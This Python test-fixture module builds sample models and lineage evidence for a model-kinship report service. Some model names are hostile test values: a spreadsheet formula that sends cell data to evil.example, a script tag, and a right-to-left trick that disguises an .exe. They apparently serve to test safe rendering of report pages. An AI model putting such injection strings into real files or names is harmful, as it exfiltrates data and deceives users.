"""Evidence as a service has it: eleven models of a hub, some with hostile names."""

from __future__ import annotations

from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from typing import Any, Final

from app.kinship.reports.evidence import Evidence
from app.kinship.reports.families import Families
from app.kinship.reports.known import KnownModel, Likeness, Period
from app.kinship.reports.likenesses import Likenesses
from app.kinship.reports.records import Document
from app.kinship.reports.renderings.kept import beginning, json_pieces
from app.kinship.reports.renderings.page import MAX_SHOWN, page
from modelkin.types.reports import ContradictedBase, Report, TakenApart

BEGIN: Final = datetime(2026, 11, 1, 10, tzinfo=UTC)
END: Final = datetime(2026, 11, 29, 21, 50, tzinfo=UTC)
REPORT_ID: Final = "019ad1c1-0000-7000-8000-000000000001"
HOSTILE: Final = '=HYPERLINK("https://evil.example/?"&A1)/<script>alert(1)</script>'
TURNED: Final = "org/safe\u202egpj.exe"


def model(name: str, days: int, **facts: Any) -> KnownModel:
    """A model that was published so many days after the begin of the report's time."""
    at = BEGIN + timedelta(days=days)
    known: dict[str, Any] = {
        "is_reported": days >= 0,
        "is_new": days >= 0,
        "stored_at": at,
        "changed_at": at,
        "published_at": at,
        "stated_by": "hub",
        "parameters": 7_000_000_000,
        "file_bytes": 14_000_000_000,
        "digest": "sha256:" + 64 * "a",
        "weights": None,
        "license": "apache-2.0",
        "declared": (),
        "verdict": "unknown",
        "sentences": ("none of 11 models is an ancestor, as far as lines show",),
    }
    return KnownModel(name=name, **known | facts)


def like(one: str, other: str, verdict: Any, share: float) -> list[Likeness]:
    """That two models have lines in common, in both directions."""
    return [
        Likeness(one, other, verdict, share, -2610.0),
        Likeness(other, one, "derived" if verdict == "part" else verdict, share, -2610.0),
    ]


def hub_models() -> list[KnownModel]:
    """A base of before, and what came in a month: fine-tunes, a copy, merges, hostile names."""
    exact = "sha256:" + 64 * "b"
    return [
        model("meta/base", -300, license="llama-license", weights=exact),
        model("lab/other", -200, license="mit", file_bytes=3_000_000_000),
        model(
            "org/tuned",
            2,
            declared=("meta/base",),
            verdict="derived",
            sentences=("changed, as by fine-tuning: 58% of lines unchanged",),
        ),
        model("org/silent", 3, license=None, verdict="derived", sentences=("shares weights",)),
        model(
            "org/mirror",
            4,
            license="llama-license",
            weights=exact,
            verdict="copy",
            sentences=("a copy of meta/base",),
        ),
        model(
            "org/blend",
            5,
            declared=("meta/base", "lab/other"),
            verdict="average",
            sentences=("average of meta/base (70%) and lab/other (30%)",),
        ),
        model("org/wrong", 6, declared=("lab/other",), verdict="unknown"),
        model("org/lost", 7, declared=("gone/away",), file_bytes=None, stated_by="client"),
        model(HOSTILE, 8, verdict="derived", sentences=("<b>shares</b> weights",)),
        model(TURNED, 9, is_new=False),
        model("モデル/日本語", 10, license="見本"),
    ]


def kin_of_hub() -> list[Likeness]:
    """What these models are to each other."""
    return [
        *like("org/tuned", "meta/base", "derived", 0.58),
        *like("org/silent", "meta/base", "derived", 0.93),
        *like("org/silent", "org/tuned", "derived", 0.55),
        *like("org/mirror", "meta/base", "copy", 1.0),
        *like("org/blend", "meta/base", "derived", 0.7),
        *like("org/blend", "lab/other", "derived", 0.17),
        *like(HOSTILE, "meta/base", "derived", 0.4),
    ]


def evidence(**changed: Any) -> Evidence:
    """What a service knows of these models, but for what is changed."""
    given: dict[str, Any] = {
        "owner": "acme",
        "period": Period(BEGIN, END),
        "fingerprints": 163,
        "models": {each.name: each for each in hub_models()},
        "likenesses": kin_of_hub(),
        "sentences": {(HOSTILE, "meta/base"): "shares <i>weights</i>"},
        "contradicted": [
            ContradictedBase(
                model="org/wrong",
                declared_base="lab/other",
                reason="lines",
                log10_p=-0.1,
                summary="The declared base 'lab/other' has no line of 4,096 in common with it.",
            )
        ],
        "judged": 4,
        "unknown": 1,
        "merges": [
            TakenApart(
                model="org/blend",
                kind="average",
                parts=("meta/base", "lab/other"),
                shares=(0.7, 0.3),
                sentence="average of meta/base (70%) and lab/other (30%)",
            )
        ],
    }
    given |= changed
    given["likenesses"] = Likenesses.of_values(given["likenesses"])
    given["families"] = Families(given["models"], given["likenesses"])
    return Evidence(**given)


def lines_of(report: Report) -> Iterator[bytes]:
    """A report as it is kept, of which the page and the table are made."""
    return Document.of(json_pieces(report)).lines()


def page_of(report: Report) -> str:
    """The page of a report."""
    return page(*beginning(lines_of(report), MAX_SHOWN)).decode()
